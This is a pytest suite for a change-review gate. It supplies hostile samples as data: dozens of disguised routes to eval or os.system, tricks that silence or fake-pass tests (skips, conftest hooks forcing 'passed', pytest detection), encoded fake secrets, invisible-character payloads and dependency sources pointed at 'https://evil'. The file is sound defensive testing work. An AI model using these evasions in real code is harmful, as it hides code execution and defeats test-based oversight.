"""An attacker at each gate: what each must see, however it is dressed up, and what must not alarm it."""

from __future__ import annotations

import base64

import pytest

from tests.operations.coding.gate_keeping import Red

X = "x = 1\n"

# Every way to the same few functions that run text.
DANGEROUS = [
    "import builtins; getattr(builtins, 'ev' + 'al')(t)",
    "import builtins; builtins.__dict__['eval'](t)",
    "globals()['__builtins__']['eval'](t)",
    "__builtins__['eval'](t)",
    "__builtins__.eval(t)",
    "import importlib; importlib.import_module('o' + 's').system(t)",
    "from importlib import import_module as im; im('os').system(t)",
    "import os; vars(os)['system'](t)",
    "import os; os.__dict__['system'](t)",
    "import os; s = 'system'; getattr(os, s)(t)",
    "import os\n@os.system\ndef f(): ...",
    "@eval\n@str\nclass X: ...",
    "import sys; sys.modules['os'].system(t)",
    "import os; os.execvp('sh', ['sh', '-c', t])",
    "import subprocess; subprocess.run(['sh', '-c', t])",
    "import subprocess; subprocess.Popen(('/bin/bash', '-c', t))",
    "import subprocess as sp; kw = {'shell': True}; sp.run(t, **kw)",
    "import subprocess; from functools import partial; run = partial(subprocess.run, shell=True)",
    "import ctypes; ctypes.CDLL(None).system(t)",
    "exec(compile(t, 'x', 'exec'))",
    "import types; types.FunctionType(c, {})()",
    "import runpy; runpy.run_path(p)",
    "import code; code.InteractiveInterpreter().runsource(t)",
    "import operator, os; operator.attrgetter('system')(os)(t)",
    "import operator, os; operator.methodcaller('system', t)(os)",
    "from os import *\nsystem(t)",
    "import os\nrun = os\nrun.system(t)",
    "import posix; posix.system(t)",
    "import imp; imp.load_source('a', p)",
    "class E:\n    __getattr__ = eval",
    "import _pickle; _pickle.loads(t)",
    "import cPickle; cPickle.loads(t)",
    "from multiprocessing import reduction; reduction.ForkingPickler.loads(t)",
    "import pandas as pd; pd.read_pickle(p)",
    "import joblib; joblib.load(p)",
    "import numpy as np; np.load(p, allow_pickle=True)",
    "import pdb; pdb.run(t)",
    "import cProfile; cProfile.run(t)",
    "import os.path as p; p.os.system(t)",
    "try:\n    import os as q\nexcept ImportError:\n    q = None\nq.system(t)",
    "def f():\n    from os import system\n    return system",
    "e = __import__('builtins').eval",
    "x = (lambda: eval)()",
    "(ev := eval)(t)",
    "import subprocess, sys; subprocess.run([sys.executable, '-c', t])",
    "\U0001d41e\U0001d42f\U0001d41a\U0001d425(t)",
]


@pytest.mark.parametrize("code", DANGEROUS)
def test_no_detour_to_what_runs_text_is_missed(red: Red, code: str) -> None:
    assert "dangerous calls" in red({"a.py": X}, {"a.py": f"{X}{code}\n"})


TESTS = """import pytest

def test_a():
    x = f()
    assert x == 1
    assert x != 2


def test_b():
    assert f()


@pytest.mark.parametrize("n", [1, 2, 3])
def test_c(n):
    assert g(n) == n
"""
# How a test is made to find nothing, and the gate that says so.
SILENCED = {
    "alias skip": TESTS.replace("import pytest\n", "import pytest\nlater = pytest.mark.skip\n").replace(
        "def test_b", "@later\ndef test_b"
    ),
    "from pytest import mark as m": "from pytest import mark as m\n"
    + TESTS.replace("def test_b", "@m.skip\ndef test_b"),
    "from pytest import skip as later": "from pytest import skip as later\n"
    + TESTS.replace("    assert f()", "    later('x')\n    assert f()"),
    "getattr mark": TESTS.replace("def test_b", "@getattr(pytest.mark, 'skip')\ndef test_b"),
    "pytestmark": TESTS.replace("import pytest\n", "import pytest\npytestmark = pytest.mark.skip\n"),
    "pytestmark list": TESTS.replace(
        "import pytest\n", "import pytest\nimport pytest as p\npytestmark = [p.mark.skipif(True, reason='')]\n"
    ),
    "SkipTest": "import unittest as u\n" + TESTS.replace("    assert f()", "    raise u.SkipTest\n    assert f()"),
    "from unittest import SkipTest as S": "from unittest import SkipTest as S\n"
    + TESTS.replace("    assert f()", "    raise S\n    assert f()"),
    "early return": TESTS.replace("    assert f()\n", "    return\n    assert f()\n"),
    "early return cond": TESTS.replace("    assert f()\n", "    if True:\n        return\n    assert f()\n"),
    "conditional assert": TESTS.replace("    assert f()\n", "    if False:\n        assert f()\n"),
    "empty params": TESTS.replace("[1, 2, 3]", "[]"),
    "fewer params": TESTS.replace("[1, 2, 3]", "[1]"),
    "renamed not collected": TESTS.replace("def test_b", "def check_b"),
    "renamed _test": TESTS.replace("def test_b", "def _test_b"),
    "underscore+new dummy": TESTS.replace("def test_b", "def _test_b")
    + "\n\ndef test_z():\n    assert f() is not None\n",
    "try except": TESTS.replace(
        "    assert f()\n", "    try:\n        assert f()\n    except AssertionError:\n        pass\n"
    ),
    "suppress": "import contextlib\n"
    + TESTS.replace("    assert f()\n", "    with contextlib.suppress(AssertionError):\n        assert f()\n"),
    "raises AssertionError": TESTS.replace(
        "    assert f()\n", "    with pytest.raises(AssertionError):\n        assert f()\n"
    ),
    "constant": TESTS.replace("assert x == 1", "assert 1 == 1"),
    "len>=0": TESTS.replace("assert f()", "assert len(f()) >= 0"),
    "not False": TESTS.replace("assert f()", "assert not False"),
    "lambda": TESTS.replace("assert f()", "assert (lambda: f())"),
    "list": TESTS.replace("assert f()", "assert [f()]"),
    "fstring": TESTS.replace("assert f()", "assert f'{f()}x'"),
    "nested def": TESTS.replace("    assert f()\n", "    def inner():\n        assert f()\n"),
    "lambda assert": TESTS.replace("    assert f()\n", "    assert_ = lambda: f()\n"),
    "__test__ fn": TESTS + "\n\ntest_b.__test__ = False\n",
    "module skip": TESTS + "\n\npytest.skip('x', allow_module_level=True)\n",
    "importorskip": TESTS.replace("import pytest\n", "import pytest\nq = pytest.importorskip('nothere')\n"),
    "exit": TESTS.replace("    assert f()\n", "    pytest.exit('x', 0)\n    assert f()\n"),
    "fixture skip": TESTS.replace(
        "def test_b(", "@pytest.fixture(autouse=True)\ndef q():\n    pytest.skip('x')\n\n\ndef test_b("
    ),
    "xfail raises": TESTS.replace("    assert f()\n", "    pytest.xfail('x')\n    assert f()\n"),
    "pytest.param skip": TESTS.replace("[1, 2, 3]", "[1, pytest.param(2, marks=pytest.mark.skip), 3]"),
    "class nested": TESTS.replace(
        "def test_b():\n    assert f()", "class Checks:\n    def test_b(self):\n        assert f()"
    ),
}


@pytest.mark.parametrize("how", SILENCED)
def test_a_test_that_was_silenced_is_noticed(red: Red, how: str) -> None:
    found = red({"tests/test_a.py": TESTS}, {"tests/test_a.py": SILENCED[how]})
    assert {"tests kept", "tests weakened", "new skips"} & set(found)


# What decides about tests without touching one.
FROM_OUTSIDE = {
    "ini k": ({"pytest.ini": "[pytest]\n"}, {"pytest.ini": "[pytest]\naddopts = -k 'not sub'\n"}),
    "new ini": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "pytest.ini": "[pytest]\naddopts = -m 'not slow'\n"}),
    "new ini python_files": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "pytest.ini": "[pytest]\npython_files = nothing_*.py\n"},
    ),
    "dot pytest.ini": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", ".pytest.ini": "[pytest]\naddopts = --deselect x\n"}),
    "pyproject": (
        {"pyproject.toml": "[project]\nname='a'\n"},
        {"pyproject.toml": "[project]\nname='a'\n[tool.pytest.ini_options]\npython_functions = ['check_*']\n"},
    ),
    "pyproject testpaths": (
        {"pyproject.toml": "[tool.pytest.ini_options]\ntestpaths=['tests']\n"},
        {"pyproject.toml": "[tool.pytest.ini_options]\ntestpaths=['tests/unit']\n"},
    ),
    "setup.cfg": (
        {"setup.cfg": "[metadata]\nname=a\n"},
        {"setup.cfg": "[metadata]\nname=a\n[tool:pytest]\naddopts = -p evil\n"},
    ),
    "tox": ({"tox.ini": "[tox]\n"}, {"tox.ini": "[tox]\n[pytest]\naddopts = --co\n"}),
    "conftest makereport": (
        {"a.py": "x = 1\n"},
        {
            "a.py": "x = 1\n",
            "conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n    o = yield\n    o.get_result().outcome = 'passed'\n",
        },
    ),
    "conftest modifyitems": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "conftest.py": "def pytest_collection_modifyitems(items):\n    items[:] = items[:1]\n"},
    ),
    "conftest ignore": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "conftest.py": "def pytest_ignore_collect():\n    return True\n"},
    ),
    "conftest call": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "conftest.py": "def pytest_pyfunc_call(pyfuncitem):\n    return True\n"},
    ),
    "conftest configure": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "conftest.py": "def pytest_configure(config):\n    config.option.keyword = 'not sub'\n"},
    ),
    "conftest specname": (
        {"a.py": "x = 1\n"},
        {
            "a.py": "x = 1\n",
            "conftest.py": "import pytest\n@pytest.hookimpl(specname='pytest_pyfunc_call')\n"
            "def helper(pyfuncitem):\n    return True\n",
        },
    ),
    "conftest setattr": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\n", "conftest.py": "globals()['pytest_pyfunc_call'] = lambda pyfuncitem: True\n"},
    ),
    "plugin module": (
        {"tests/conftest.py": ""},
        {
            "tests/conftest.py": "pytest_plugins = ['tests.helper']\n",
            "tests/helper.py": "def pytest_pyfunc_call(pyfuncitem):\n    return True\n",
        },
    ),
    "autouse skip": (
        {"a.py": "x = 1\n"},
        {
            "a.py": "x = 1\n",
            "conftest.py": "import pytest\n@pytest.fixture(autouse=True)\ndef q(request):\n"
            "    if 'sub' in request.node.name:\n        pytest.skip('x')\n",
        },
    ),
    "code patches pytest": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\nimport _pytest.python as p\np.pytest_pyfunc_call = lambda **k: True\n"},
    ),
    "code knows": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\nimport os\nif 'PYTEST_CURRENT_TEST' in os.environ:\n    x = 2\n"},
    ),
    "code knows modules": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\nimport sys\nif 'pytest' in sys.modules:\n    x = 2\n"},
    ),
    "entry point": (
        {"pyproject.toml": "[project]\nname='a'\n"},
        {"pyproject.toml": "[project]\nname='a'\n[project.entry-points.pytest11]\na='a'\n"},
    ),
    "shadow pytest": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "pytest.py": "x=1\n"}),
    "shadow pytest pkg": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "pytest/__main__.py": "x=1\n"}),
    "shadow stdlib": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "unittest.py": "x=1\n"}),
    "_pytest": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "_pytest/__init__.py": "x=1\n"}),
    "jest config": (
        {"jest.config.js": "module.exports = {}\n"},
        {"jest.config.js": "module.exports = {testMatch: ['nothing']}\n"},
    ),
    "package test script": (
        {"package.json": '{"scripts": {"test": "jest"}}\n'},
        {"package.json": '{"scripts": {"test": "true"}}\n'},
    ),
    "mocharc": ({"a.js": "1\n"}, {"a.js": "1\n", ".mocharc.json": '{"grep": "x"}\n'}),
}


@pytest.mark.parametrize("how", FROM_OUTSIDE)
def test_what_decides_about_tests_from_outside_is_noticed(red: Red, how: str) -> None:
    assert {"test harness", "new skips"} & set(red(*FROM_OUTSIDE[how]))


KEY = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6"
SECRETS = {
    "split": ("a.py", f"k = '{KEY[:10]}' '{KEY[10:]}'\n"),
    "split +": ("a.py", f"k = '{KEY[:10]}' + '{KEY[10:]}'\n"),
    "split lines": ("a.py", f"k = (\n    '{KEY[:10]}'\n    '{KEY[10:]}'\n)\n"),
    "join": ("a.py", f"k = ''.join(['{KEY[:10]}', '{KEY[10:]}'])\n"),
    "base64": ("a.py", f"k = '{base64.b64encode(KEY.encode()).decode()}'\n"),
    "hex": ("a.py", f"k = '{KEY.encode().hex()}'\n"),
    "reversed": ("a.py", f"k = '{KEY[::-1]}'[::-1]\n"),
    "escaped": ("a.py", "k = '" + "".join(f"\\x{ord(c):02x}" for c in KEY) + "'\n"),
    "yaml": ("a.yaml", f"k: {KEY}\n"),
    "generic unquoted": ("deploy/.env", "PASSWORD=q7RzP0vLk3Xw9TbM2sYd\n"),
    "basic url": ("a.py", "u = 'https://bob:q7RzP0vLk3Xw9TbM@db.example.net/x'\n"),
    "pem lines": ("a.py", "k = '''-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEI\n'''\n"),
    "aws secret": ("a.py", "aws_secret_access_key = 'wJalrXUtnFEMIK7MDENGbPxRfiCYzqtPQrSeKLMN'\n"),
    "putty": ("a.ppk", "PuTTY-User-Key-File-2: ssh-rsa\n"),
    "age": ("a.txt", "AGE-SECRET-KEY-1QQPZRY9X8GF2TVDW0S3JN54KHCE6MUA7LQPZRY9X8GF2TVDW0S3JN54KHC\n"),
    "azure": (
        "a.txt",
        "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=q7RzP0vLk3Xw9TbM2sYdq7RzP0vLk3Xw9TbM2sYdq7RzP0vLk3Xw9TbM2sYdq7RzP0vLk3Xw9TbM2sYd4g==\n",
    ),
    "test named": ("a.py", "def test_x():\n    k = '" + KEY + "'\n"),
    "mrt": ("a.py", "t = 'mrt_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0dF3hJ6kM8nP'\n"),
}


@pytest.mark.parametrize("how", SECRETS)
def test_a_secret_in_pieces_or_encoded_is_found_and_never_repeated(red: Red, how: str) -> None:
    path, text = SECRETS[how]
    found = red({path: "x\n"}, {path: text})
    assert "secrets" in found
    assert KEY[4:12] not in found["secrets"]


UNSEEN = {
    "filename zw": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "b\u200b.py": "x = 1\n"}),
    "filename bidi": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "b\u202etxt.py": "x = 1\n"}),
    "filename homoglyph": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "p\u0430th.py": "x = 1\n"}),
    "identifier homoglyph": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\nis_\u0430dmin = True\n"}),
    "variation selector": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\ns = 'a\ufe00\ufe01\ufe02\ufe03'\n"}),
    "vs supplement": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\ns = 'a\U000e0100\U000e0101'\n"}),
    "line sep": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# x\u2028eval(t)\n"}),
    "vt/ff": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# x\x0cimport os\n"}),
    "lone cr": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# x\rimport os; os.system('x')\n"}),
    "ansi": ({"a.sh": "x\n"}, {"a.sh": "x\n# \x1b[8mhidden\x1b[0m\n"}),
    "backspace": ({"a.sh": "x\n"}, {"a.sh": "x\n# a\x08\x08b\n"}),
    "removed pays": ({"a.py": "x = '\u200b'\n"}, {"a.py": "x = '\u202e'\n"}),
    "nul": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# \x00\n"}),
    "C1": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# \x9b8m\n"}),
    "interlinear": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# \ufff9x\ufffay\ufffb\n"}),
    "combining": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n# \u034f\n"}),
    "braille blank": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n\u2800 = 1\n"}),
    "emoji zwj payload": (
        {"a.py": "x = 1\n"},
        {"a.py": "x = 1\ns='\U0001f600\u200d\U0001f600\ufe0f\ufe0f\ufe0f\ufe0f'\n"},
    ),
}


@pytest.mark.parametrize("how", UNSEEN)
def test_what_nobody_sees_in_text_or_names_is_found(red: Red, how: str) -> None:
    assert {"invisible characters", "binaries"} & set(red(*UNSEEN[how]))


ASKS_FOR_MORE = {
    "req -r": ({"requirements.txt": "a\n"}, {"requirements.txt": "a\n-r other.txt\n"}),
    "req --index-url=": ({"requirements.txt": "a\n"}, {"requirements.txt": "a\n--index-url=https://x\n"}),
    "req -i": ({"requirements.txt": "a\n"}, {"requirements.txt": "a\n-ihttps://x\n"}),
    "req url": ({"requirements.txt": "a==1\n"}, {"requirements.txt": "a @ https://evil/a.whl\n"}),
    "req url moves": (
        {"requirements.txt": "a @ https://good/a.whl\n"},
        {"requirements.txt": "a @ https://evil/a.whl\n"},
    ),
    "req dev name": ({"dev-requirements.txt": "a\n"}, {"dev-requirements.txt": "a\nb\n"}),
    "req upper": ({"Requirements.txt": "a\n"}, {"Requirements.txt": "a\nb\n"}),
    "constraints": ({"constraints.txt": "a\n"}, {"constraints.txt": "a\nb @ https://evil/x.whl\n"}),
    "lock": ({"requirements.lock": "a==1\n"}, {"requirements.lock": "a==1\nb==1\n"}),
    "poetry lock": (
        {"poetry.lock": '[[package]]\nname = "a"\n'},
        {"poetry.lock": '[[package]]\nname = "a"\n[[package]]\nname = "b"\n'},
    ),
    "uv lock": (
        {"uv.lock": '[[package]]\nname = "a"\n'},
        {"uv.lock": '[[package]]\nname = "a"\n[[package]]\nname = "b"\n'},
    ),
    "package-lock": (
        {"package-lock.json": '{"packages": {"node_modules/a": {"resolved": "https://registry.npmjs.org/a"}}}\n'},
        {"package-lock.json": '{"packages": {"node_modules/a": {"resolved": "https://evil/a"}}}\n'},
    ),
    "yarn.lock": ({"yarn.lock": 'a@1:\n  version "1"\n'}, {"yarn.lock": 'a@1:\n  version "1"\nb@1:\n  version "1"\n'}),
    "setup.py": (
        {"setup.py": "from setuptools import setup\nsetup(install_requires=['a'])\n"},
        {"setup.py": "from setuptools import setup\nsetup(install_requires=['a', 'b'])\n"},
    ),
    "setup.cfg extras": (
        {"setup.cfg": "[options.extras_require]\ndev =\n  a\n"},
        {"setup.cfg": "[options.extras_require]\ndev =\n  a\n  b\n"},
    ),
    "pyproject unreadable": (
        {"pyproject.toml": "[project]\ndependencies=['a']\n"},
        {"pyproject.toml": "[project]\ndependencies=['a', 'b']\n= broken\n"},
    ),
    "pyproject backend": (
        {"pyproject.toml": "[build-system]\nrequires=['a']\nbuild-backend='a'\n"},
        {"pyproject.toml": "[build-system]\nrequires=['a']\nbuild-backend='evil'\nbackend-path=['.']\n"},
    ),
    "pyproject uv source": (
        {"pyproject.toml": "[project]\ndependencies=['a']\n"},
        {"pyproject.toml": "[project]\ndependencies=['a']\n[tool.uv.sources]\na = {git='https://evil'}\n"},
    ),
    "pyproject uv index": (
        {"pyproject.toml": "[project]\ndependencies=['a']\n"},
        {"pyproject.toml": "[project]\ndependencies=['a']\n[[tool.uv.index]]\nurl='https://evil'\n"},
    ),
    "poetry source": (
        {"pyproject.toml": "[tool.poetry.dependencies]\na='1'\n"},
        {"pyproject.toml": "[tool.poetry.dependencies]\na={git='https://evil'}\n"},
    ),
    "poetry sources": (
        {"pyproject.toml": "[tool.poetry]\n"},
        {"pyproject.toml": "[tool.poetry]\n[[tool.poetry.source]]\nname='x'\nurl='https://evil'\n"},
    ),
    "npm version url": (
        {"package.json": '{"dependencies": {"a": "1"}}'},
        {"package.json": '{"dependencies": {"a": "https://evil/a.tgz"}}'},
    ),
    "npm overrides": ({"package.json": "{}"}, {"package.json": '{"overrides": {"a": "npm:evil@1"}}'}),
    "npm alias": (
        {"package.json": '{"dependencies": {"a": "1"}}'},
        {"package.json": '{"dependencies": {"a": "npm:evil@1"}}'},
    ),
    "pip.conf": ({"a.py": "x = 1\n"}, {"a.py": "x = 1\n", "pip.conf": "[global]\nindex-url=https://evil\n"}),
    "environment.yml": (
        {"environment.yml": "dependencies:\n  - a\n"},
        {"environment.yml": "dependencies:\n  - a\n  - b\n"},
    ),
    "cargo git": (
        {"Cargo.toml": "[dependencies]\na='1'\n"},
        {"Cargo.toml": "[dependencies]\na={git='https://evil'}\n"},
    ),
    "cargo target": (
        {"Cargo.toml": "[dependencies]\na='1'\n"},
        {"Cargo.toml": "[dependencies]\na='1'\n[target.'cfg(unix)'.dependencies]\nb='1'\n"},
    ),
    "cargo workspace": (
        {"Cargo.toml": "[dependencies]\na='1'\n"},
        {"Cargo.toml": "[dependencies]\na='1'\n[workspace.dependencies]\nb='1'\n"},
    ),
    "cargo patch": (
        {"Cargo.toml": "[dependencies]\na='1'\n"},
        {"Cargo.toml": "[dependencies]\na='1'\n[patch.crates-io]\na={git='https://evil'}\n"},
    ),
    "nested": ({"web/package.json": "{}"}, {"web/package.json": '{"dependencies": {"b": "1"}}'}),
}


@pytest.mark.parametrize("how", ASKS_FOR_MORE)
def test_a_new_package_or_another_source_of_one_is_found_in_any_manifest(red: Red, how: str) -> None:
    assert {"dependencies", "hooks"} & set(red(*ASKS_FOR_MORE[how]))


STARTS_BY_ITSELF = [
    ".GitHub/Workflows/x.yml",
    ".github/WORKFLOWS/x.yml",
    ".husky/pre-commit",
    "web/.husky/pre-commit",
    "scripts/git-hooks/pre-commit",
    "tools/hooks/pre-commit",
    ".Husky/pre-commit",
    "x/usercustomize.py",
    "SITECUSTOMIZE.py",
    "a/b/x.pth",
    "sub/.envrc",
    ".vscode/settings.json",
    "sub/.vscode/tasks.json",
    ".devcontainer.json",
    ".claude/settings.json",
    ".cursor/mcp.json",
    ".mcp.json",
    ".npmrc",
    ".yarn/plugins/x.cjs",
    "web/.yarnrc.yml",
    ".pnpmfile.cjs",
    ".cargo/config.toml",
    ".gitmodules",
    ".github/dependabot.yml",
    ".github/CODEOWNERS",
    "CODEOWNERS",
    "ci/.gitlab-ci.yml",
    ".gitlab/ci/x.yml",
    "Jenkinsfile.release",
    "ci/Jenkinsfile",
    "sub/action.yml",
    ".cirrus.yml",
    "renovate.json",
    "netlify.toml",
    "sub/.pre-commit-config.yaml",
    ".pre-commit-hooks.yaml",
    ".overcommit.yml",
    "simple-git-hooks.js",
    "sub/.gitconfig",
    ".lfsconfig",
    ".gitattributes",
    ".dir-locals.el",
    ".exrc",
    ".nvim.lua",
    ".gdbinit",
    ".bazelrc",
    ".readthedocs.yaml",
    ".woodpecker.yaml",
    ".tekton/x.yaml",
    ".azure-pipelines/x.yml",
    ".mvn/extensions.xml",
]


@pytest.mark.parametrize("path", STARTS_BY_ITSELF)
def test_what_starts_by_itself_is_found_by_any_spelling_of_its_name(red: Red, path: str) -> None:
    found = red({"a.py": X}, {"a.py": X, path: "* filter=x\n"})
    assert {"hooks", "workflow files", "submodules"} & set(found)


@pytest.mark.parametrize(
    "after", ["other/a.py", "Secret/a.py", "secret /a.py", "secret/x/y.py", "se\u200bcret/a", "secret"]
)
def test_a_protected_folder_is_reached_by_no_other_spelling(red: Red, after: str) -> None:
    before = {"secret/a.py": X} if after.startswith("other") else {"a.py": X}
    assert "protected paths" in red(before, {after: X}, protected_paths=["secret/**"])


FINE = {
    "a fixture": ("tests/conftest.py", "", "import pytest\n\n\n@pytest.fixture\ndef one():\n    return 1\n"),
    "options of pytest's output": ("pytest.ini", "[pytest]\n", "[pytest]\nlog_cli = true\n"),
    "a program and its arguments": ("a.py", X, "import subprocess\nsubprocess.run(['git', '-c', name, 'status'])\n"),
    "an attribute by its name": ("a.py", X, "import os\ngetattr(settings, name)\ngetattr(os, 'O_DIRECT', 0)\n"),
    "a name of one's own": ("a.py", X, "import os\nrun = os\nrun = other()\nrun.system(1)\n"),
    "Russian words": ("a.py", X, "name = '\u043f\u0440\u0438\u0432\u0435\u0442'  # \u043c\u0438\u0440\n"),
    "a Greek delta": ("a.py", X, "\u0394t = 1\n"),
    "a picture in a text": ("a.md", "x\n", "x \u2764\ufe0f\n"),
    "Windows' ends of lines": ("a.txt", "a\r\nb\r\n", "a\r\nc\r\n"),
    "a question about a type": ("a.py", X, "import types\nisinstance(f, types.FunctionType)\n"),
    "a hash": ("a.py", X, f"h = '{'0123456789abcdef' * 4}'\n"),
    "an address without a password": ("a.py", X, "u = 'postgresql://moorage@127.0.0.1:5432/db'\n"),
    "a folder of React hooks": ("src/hooks/pre-fetch.ts", "a\n", "b\n"),
    "a newer version": ("poetry.lock", '[[package]]\nname = "a"\nversion = "1"\n',
                        '[[package]]\nname = "a"\nversion = "2"\n'),
    "an assertion that only narrows": (
        "tests/test_a.py", "def test_a():\n    m = f()\n    assert m is not None\n    assert m.x == 1\n",
        "def test_a():\n    m = f()\n    assert m.x == 1\n",
    ),
    "an assertion within the handler": (
        "tests/test_a.py", "def test_a():\n    assert f()\n",
        "def test_a():\n    try:\n        assert f()\n    except Exception as error:\n        assert error.code == 1\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", FINE)
def test_what_is_usual_raises_no_alarm(red: Red, what: str) -> None:
    path, before, after = FINE[what]
    assert red({path: before}, {path: after}) == {}


def test_a_test_that_expects_something_else_now_is_told_to_whoever_reviews(red: Red) -> None:
    told = red(
        {"tests/test_a.py": TESTS}, {"tests/test_a.py": TESTS.replace("x == 1", "x == 7")}, words_of="tests weakened"
    )
    assert told == {"tests weakened": "no assertion was lost; other ones than before in test_a"}
